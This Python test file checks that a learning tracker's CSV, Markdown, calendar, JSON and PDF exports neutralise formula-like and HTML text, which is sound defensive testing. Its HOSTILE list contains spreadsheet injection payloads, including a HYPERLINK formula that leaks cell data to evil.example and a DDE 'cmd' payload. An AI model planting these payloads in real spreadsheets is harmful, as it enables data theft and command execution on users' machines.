"""Every export through the one ``export``: real files, and text a spreadsheet would run kept inert.

A learner's text (a note, an offer's title) that starts like a formula must reach a spreadsheet
as text: every CSV cell that starts with = + - @ tab or CR gets a leading apostrophe. The other
formats carry the same text in their own safe form.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import icalendar
import pytest

from tests.offers import BOOTCAMP_A
from tracker.domain.enums import ItemKind
from tracker.errors import InvalidInputError, NotFoundError, StorageError
from tracker.exchange import Format, export, spreadsheet_safe
from tracker.exchange.report import report_html
from tracker.wiring import Services

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def read_csv(file: Path) -> list[list[str]]:
    text = file.read_bytes().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_no_cell_runs(rows: list[list[str]]) -> None:
    cells = [cell for row in rows for cell in row]
    assert cells, "the file has cells"
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


def add_hostile_offer(services: Services, title: str) -> str:
    offer = {**BOOTCAMP_A, "title": title, "url": "https://example.org/offer"}
    return services.choosing.add_offer("flask", offer).value


@pytest.mark.parametrize("value", HOSTILE)
def test_spreadsheet_safe_prefixes_every_formula_start(value: str) -> None:
    assert spreadsheet_safe(value) == "'" + value
    assert spreadsheet_safe("plain, =later") == "plain, =later"
    assert spreadsheet_safe(-3) == -3  # a number is a number, not text


def test_the_comparison_csv_escapes_an_offer_titled_as_a_formula(
    services: Services, tmp_path: Path
) -> None:
    slug = add_hostile_offer(services, HOSTILE[0])
    file = tmp_path / "comparison.csv"
    exported = export(services, Format.COMPARISON_CSV, file, path_slug="flask")
    assert exported.files == (file,)
    rows = read_csv(file)
    assert_no_cell_runs(rows)
    header = rows[0]
    offer = next(row for row in rows[1:] if row[header.index("slug")] == slug)
    assert offer[header.index("option")] == "'" + HOSTILE[0]  # the text, shown, never run


def test_the_comparison_keeps_the_chosen_options_and_refuses_an_unknown_one(
    services: Services, tmp_path: Path
) -> None:
    services.choosing.set_situation(hours_per_week=10, budget=1_000)
    slug = add_hostile_offer(services, "Bootcamp | evenings")
    md = tmp_path / "comparison.md"
    export(services, "comparison-md", md, path_slug="flask", slugs=["self-study", slug])
    table = md.read_text(encoding="utf-8").splitlines()
    header = next(line for line in table if line.startswith("| Criterion"))
    assert header.count(" | ") == 2  # the criterion column and the two chosen options
    assert "Bootcamp \\| evenings" in header  # a pipe in a title does not split the table
    with pytest.raises(NotFoundError, match="no option 'nope'"):
        export(services, "comparison-csv", tmp_path / "x.csv", path_slug="flask", slugs=["nope"])
    assert not (tmp_path / "x.csv").exists()


def test_the_catalog_and_time_log_csv_escape_every_formula(
    services: Services, tmp_path: Path
) -> None:
    for i, text in enumerate(HOSTILE):
        services.catalog.set_notes("flask", "flask-official-tutorial", text)
        services.studylog.log(
            "flask", 10 + i, item_kind=ItemKind.RESOURCE, item_slug="flask-books", note=text
        )
    own = services.catalog.add_own_resource(
        "flask", {"title": HOSTILE[3], "kind": "tutorial", "url": "https://example.org/"}
    )
    file = tmp_path / "progress.csv"
    exported = export(services, Format.SPREADSHEETS, file)
    catalog, time_log = exported.files
    assert (catalog, time_log.name) == (file, "progress-time-log.csv")
    rows, log = read_csv(catalog), read_csv(time_log)
    assert_no_cell_runs(rows)
    assert_no_cell_runs(log)
    titles = [row[rows[0].index("title")] for row in rows]
    assert "'" + HOSTILE[3] in titles and own
    notes = [row[log[0].index("note")] for row in log[1:]]
    assert sorted(notes) == sorted("'" + text for text in HOSTILE)


def test_the_progress_file_keeps_the_text_as_it_was_typed(
    services: Services, tmp_path: Path
) -> None:
    services.catalog.set_notes("flask", "flask-official-tutorial", HOSTILE[0])
    file = tmp_path / "progress.json"
    exported = export(services, "json", file)
    assert exported.message == f"Exported your progress to {file}."
    data = json.loads(file.read_text(encoding="utf-8"))
    notes = {p["resource"]: p["notes"] for p in data["resource_progress"]}
    assert notes["flask-official-tutorial"] == HOSTILE[0]  # JSON is data, not a spreadsheet


def test_the_calendar_carries_the_text_escaped(services: Services, tmp_path: Path) -> None:
    services.catalog.set_status("flask", "flask-official-tutorial", "in-progress")
    services.catalog.set_notes("flask", "flask-official-tutorial", HOSTILE[0] + "; more, text")
    file = tmp_path / "plan.ics"
    exported = export(services, Format.CALENDAR, file)
    assert exported.message == f"Exported 1 to-do to {file}."
    calendar = icalendar.Calendar.from_ical(file.read_bytes())
    (todo,) = calendar.walk("VTODO")
    assert str(todo["DESCRIPTION"]) == HOSTILE[0] + "; more, text"


@pytest.mark.usefixtures("qapp")  # the app's own QApplication, as the window has one
def test_the_report_escapes_markup_and_is_a_pdf(services: Services, tmp_path: Path) -> None:
    services.catalog.set_status("flask", "flask-official-tutorial", "in-progress")
    services.catalog.set_notes("flask", "flask-official-tutorial", "<img src='x'> " + HOSTILE[0])
    html = report_html(services, "flask")
    assert "&lt;img src=" in html and "<img" not in html
    file = tmp_path / "report.pdf"
    exported = export(services, Format.REPORT, file, path_slug="flask")
    assert file.read_bytes().startswith(b"%PDF-")
    assert exported.message.startswith("Wrote the progress report (1 page)")
    with pytest.raises(InvalidInputError):
        export(services, Format.REPORT, tmp_path / "none.pdf")  # which path's report?


@pytest.mark.usefixtures("qapp")
@pytest.mark.parametrize("fmt", list(Format))
def test_a_failed_export_leaves_the_old_file_and_no_partial(
    services: Services, tmp_path: Path, fmt: Format
) -> None:
    folder = tmp_path / "exports"
    folder.mkdir()
    blocker = folder / "a-file"
    blocker.write_text("not a folder", encoding="utf-8")
    with pytest.raises(StorageError, match="could not be written"):
        export(services, fmt, blocker / f"out{fmt.suffix}", path_slug="flask")
    assert [p.name for p in folder.iterdir()] == ["a-file"]
    file = folder / f"kept{fmt.suffix}"
    export(services, fmt, file, path_slug="flask")
    first = file.read_bytes()
    export(services, fmt, file, path_slug="flask")  # over an existing file: replaced whole
    assert file.exists() and len(file.read_bytes()) > 0 and first
    assert not [p for p in folder.iterdir() if p.name.endswith(".partial")]
